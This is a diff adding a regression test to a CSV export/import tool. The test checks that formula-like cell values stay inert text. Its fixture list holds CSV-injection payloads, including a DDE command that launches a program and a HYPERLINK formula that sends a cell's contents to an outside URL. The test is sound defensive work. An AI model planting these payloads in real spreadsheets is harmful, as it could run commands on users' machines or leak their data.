@@ -9,7 +9,7 @@ import tempfile
 
 import openpyxl
 import office
-from common import IDS, ROOT, Tally, files_below, leaves, load, run, squeeze
+from common import IDS, ROOT, Tally, files_below, leaves, load, run, squeeze, store
 
 
 def visible(data):
@@ -153,6 +153,34 @@ def refused(folder):
     assert "dump|pdftext|html|csv|xlsx|docx|pdf" in done.stderr, done.stderr
 
 
+FORMULAS = ["=1+1", "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", '=HYPERLINK("http://example.org/?"&A1,"x")', "＝5+6",
+            "'=7"]
+
+
+def computed(table, folder):
+    """The cells of a CSV that LibreOffice takes for formulas."""
+    book = openpyxl.load_workbook(office.convert("xlsx", [table], folder)[0])
+    return [cell.value for row in book.active.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def formulas_stay_texts(folder):
+    """What a spreadsheet would compute is text in an exported CSV, and comes back as it was."""
+    catalog, table, back = folder / "formulas.json", folder / "formulas.csv", folder / "formulas-back.json"
+    data = load(ROOT / f"catalog/{IDS[0]}.json")
+    data["id"], data["title"] = "formulas", FORMULAS[0]
+    for item, text in zip(data["items"], FORMULAS):
+        item["content"] = text
+    store(catalog, data)
+    run("export", catalog, "-o", table, check=0)
+    run("import", table, "-o", back, "--root", ROOT, check=0)
+    same_rows(visible(data), visible(load(back)))
+    assert load(back)["title"] == FORMULAS[0]
+    assert not computed(table, folder), computed(table, folder)
+    bare = folder / "bare.csv"
+    bare.write_text(table.read_text("utf-8").replace("\"'", '"'), "utf-8")
+    assert computed(bare, folder), "LibreOffice computes nothing: this check sees nothing"
+
+
 def main():
     tally = Tally()
     with tempfile.TemporaryDirectory() as name:
@@ -163,6 +191,7 @@ def main():
             tally.case(f"{catalog}, some of its columns", some_columns, catalog, folder)
         if shutil.which("soffice"):
             tally.case("by other writers", real_writers, IDS[:2], folder)
+            tally.case("formulas stay texts", formulas_stay_texts, folder)
         for function in (registries, built_directly, catalog_inside, refused):
             tally.case(function.__name__, function, folder)
     tally.done()
